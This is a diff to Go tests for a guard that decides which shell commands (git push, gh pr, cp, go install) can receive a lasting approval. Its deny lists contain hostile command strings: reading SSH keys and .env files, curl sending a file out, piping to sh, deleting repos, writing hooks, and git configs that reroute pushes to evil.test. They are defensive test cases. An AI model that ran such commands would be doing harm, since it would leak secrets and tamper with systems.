@@ -27,8 +27,6 @@ func lastingDesk(t *testing.T) (Guard, string) {
 	put(t, root, map[string]string{"w/.git/HEAD": "ref: refs/heads/main\n", "w/.git/config": `
 [remote "origin"]
 	url = https://token@github.com/acme/app.git
-[remote "fork"]
-	url = git@github.com:me/app
 `})
 	for name := range strings.FieldsSeq("git gh kubectl helm pkill go cp bash tee") {
 		put(t, root, map[string]string{"home/dev/.local/bin/" + name: "#!/bin/sh\n"})
@@ -48,18 +46,20 @@ func TestLasting(t *testing.T) {
 		{"git push origin main", []string{"push origin main"}},
 		{"git push -u origin feature/a",
 			[]string{"push -u origin feature/a", "push -u origin feature/*"}},
-		{"git add -A && git push origin feature/a 2>&1",
+		{"git add -A && git commit -m x && git push origin feature/a 2>&1",
 			[]string{"push origin feature/a", "push origin feature/*"}},
-		{"cd src; git push origin refs/heads/a", []string{"push origin refs/heads/a"}},
-		{"git push origin HEAD:feature/a", []string{"push origin HEAD:feature/a"}},
+		{"cd src && git push origin a/b/c", []string{"push origin a/b/c", "push origin a/b/*"}},
 		{"gh pr create --title 'a b' --body=c",
 			[]string{"pr create --title a b --body=c", "pr create --title * --body=*"}},
+		{"gh pr create --draft -t a -b -x --base main",
+			[]string{"pr create --draft -t a -b -x --base main",
+				"pr create --draft -t * -b * --base main"}},
 		{"gh pr comment 12 -b hi", []string{"pr comment 12 -b hi", "pr comment * -b *"}},
-		{"kubectl --context=dev apply -f k8s/app.yaml",
-			[]string{"--context=dev apply -f k8s/app.yaml", "--context=dev apply -f k8s/*"}},
 		{"pkill -f vite", []string{"-f vite"}},
-		{"go install example.test/x@v1", []string{"install example.test/x@v1"}},
+		{"go install example.test/x/cmd/y@v1.2.3",
+			[]string{"install example.test/x/cmd/y@v1.2.3"}},
 		{"cp src/a.go ~/other/x", []string{"src/a.go " + g.Caller.Home + "/other/x"}},
+		{"mkdir -p ~/other/dir", []string{"-p " + g.Caller.Home + "/other/dir"}},
 	} {
 		if got := g.lastingOf(t, c.line); !slices.Equal(got, c.want) {
 			t.Errorf("%q: %q, want %q", c.line, got, c.want)
@@ -82,18 +82,94 @@ func TestLastingNever(t *testing.T) {
 		"eval git push origin feature/a", "git push origin $B",
 		"git push origin feature/$(cat b)", "git push origin feature/a | sh",
 		"git push origin feature/a; python3 -c 'print(1)'", "git push origin 'feature/*'",
-		"git push origin main; pkill vite", "git push origin main; cat .env", "cat ~/.ssh/id_rsa",
-		"rm -r ~/other", "echo x > ~/.bashrc", "cp x ~/.ssh/config",
+		"git push origin main; pkill vite", "git push origin main; cat .env",
+		"cat ~/.ssh/id_rsa", "rm -r ~/other", "echo x > ~/.bashrc", "cp x ~/.ssh/config",
 		"echo x > .git/hooks/pre-push", "kubectl apply -f k8s/app.yaml", "kubectl delete pod x",
 		"curl -d @src/a.go https://x.test", "npm publish", "gh repo delete a/b --yes",
 		"gh pr merge 1", "sudo ls", "bash s.sh > ~/other/x", "PATH=/x; pkill vite",
 		"HOME=/x; git push origin feature/a", "for HOME in a; do pkill vite; done",
 		"read HOME < x; pkill vite", "set -a; X=1; pkill vite", "timeout 3 pkill vite",
 		"cd /; git push origin feature/a", "git push origin feature/a \u202e",
+		"./x.py; git push origin feature/a", "make; git push origin feature/a",
+		"npm run build; git push origin feature/a", "sleep 2; git push origin feature/a",
+		"cat fifo; git push origin feature/a", "git push origin HEAD", "git push origin @",
+		"git push origin HEAD:feature/a", "git push origin refs/heads/a",
+		"git push origin refs/for/main", "git push origin feature/a b",
+		"git push --no-verify origin feature/a", "git push origin main -o a/b",
+		"git push --recurse-submodules=on-demand origin feature/a",
+		"git push https://github.com/acme/app.git feature/a", "git push origin feature/../main",
+		"git push --namespace=x origin feature/a", "kubectl --context=dev apply -f k8s/app.yaml",
+		"kubectl --context= apply -f k8s/a", "helm upgrade x y --kube-context=dev",
+		"gh pr review 1 --approve", "gh pr comment 1 --delete-last --yes",
+		"gh pr comment 1 -F -", "gh pr comment -R evil/x 1 -b hi",
+		"gh pr comment evil:branch -b hi",
+		"gh pr comment https://github.com/evil/x/pull/1 -b hi", "gh pr comment １２ -b x",
+		"gh pr comment 12 -b '*'", "gh pr edit 1 --base main", "gh pr create comment -t x",
+		"gh pr create -t a -B +main", "cp src/a.go ~", "cp -r src ~/other",
+		"cp src/a.go ~/.kube/config", "cp src/a.go ~/other/.envrc", "cp /dev/stdin ~/other/x",
+		"cp - ~/other/x", "mv src ~/other/x", "curl -o ~/other/x https://x.test",
+		"tar xf a.tar -C ~/other", "sed -i s/a/b/ ~/other/x", "ex -s ~/other/x",
+		"vim -es ~/other/x", "patch -p0 -d ~/other", "dd of=$HOME/other/x", "ln -s a ~/other/y",
+		"go install ./...", "go install example.test/x@latest",
+		"go install -ldflags=-x example.test/x@v1.2.3", "go install example.test/x@main",
+		"pkill -F -", "pkill -u dev", "glab mr create -t x",
 	} {
 		if got := g.lastingOf(t, line); got != nil {
 			t.Errorf("%q: %q", line, got)
 		}
+	}
+}
+
+// A push is offered only where nothing in the repository changes what its words say: no mapping of
+// names, no hook, no other reader of the address.
+func TestLastingSettings(t *testing.T) {
+	const plain = "[remote \"origin\"]\n\turl = https://github.com/acme/app\n"
+	offered := []string{
+		"",
+		"[user]\n\tname = x\n",
+		"[push]\n\tdefault = simple\n",
+		"[branch \"feature/a\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
+		"[remote \"origin\"]\n\tpushurl = https://github.com/evil/app\n",
+		"[branch \"q\"]\n\tx = a\\\\\n",
+		"[url \"https://evil.test/\"]\n\tpushInsteadOf = https://github.com/\n",
+	}
+	not := []string{
+		"[push]\n\tdefault = upstream\n",
+		"[push]\n\tdefault = matching\n",
+		"[push]\n\trecurseSubmodules = on-demand\n",
+		"[push]\n\tfollowTags\n",
+		"[push]\n\tpushOption = x\n",
+		"[submodule]\n\trecurse = true\n",
+		"[remote \"origin\"]\n\tpush = +refs/heads/*:refs/heads/main\n",
+		"[remote \"origin\"]\n\tmirror = true\n",
+		"[lfs]\n\turl = https://x.test\n",
+		"[remote \"origin\"]\n\turl = https://github.com/evil/app\n",
+		"[core]\n\thooksPath = .husky\n",
+		"[extensions]\n\trefStorage = reftable\n",
+		"[user]\n\tx = \"a\n",
+	}
+	for i, text := range slices.Concat(offered, not) {
+		g, root := lastingDesk(t)
+		put(t, root, map[string]string{"w/.git/config": plain + text})
+		got := g.lastingOf(t, "git push origin feature/a") != nil
+		if got != (i < len(offered)) {
+			t.Errorf("%q: offered %v", text, got)
+		}
+	}
+	for name, text := range map[string]string{
+		".git/hooks/pre-push": "#!/bin/sh\n", ".git/hooks/reference-transaction": "#!/bin/sh\n",
+		".git/refs/heads/feature/a": "ref: refs/heads/main\n", ".lfsconfig": "[lfs]\nurl = x\n",
+	} {
+		g, root := lastingDesk(t)
+		put(t, root, map[string]string{"w/" + name: text})
+		if got := g.lastingOf(t, "git push origin feature/a"); got != nil {
+			t.Errorf("%s: %q", name, got)
+		}
+	}
+	g, root := lastingDesk(t)
+	put(t, root, map[string]string{"w/.git/config": plain + "[remote \"fork\"]\n\turl = x:y/z\n"})
+	if got := g.lastingOf(t, "gh pr comment 1 -b x"); got != nil {
+		t.Errorf("one of two remotes: %q", got)
 	}
 }
 
@@ -112,8 +188,8 @@ func TestLastingBinds(t *testing.T) {
 	equal := func(a, b Lasting) bool { return reflect.DeepEqual(a, b) }
 	line := "git push origin feature/a"
 	first := of(line)
-	if got := first[1].Asks; len(got) != 1 ||
-		got[0] != "sends data from this machine to github.com/acme/app" {
+	if got := first[1].Asks; !slices.Equal(got, []string{
+		"sends data from this machine to github.com/acme/app", "of github.com/acme/app alone"}) {
 		t.Errorf("asks %q", got)
 	}
 	same := of("git add .; git push origin feature/b")
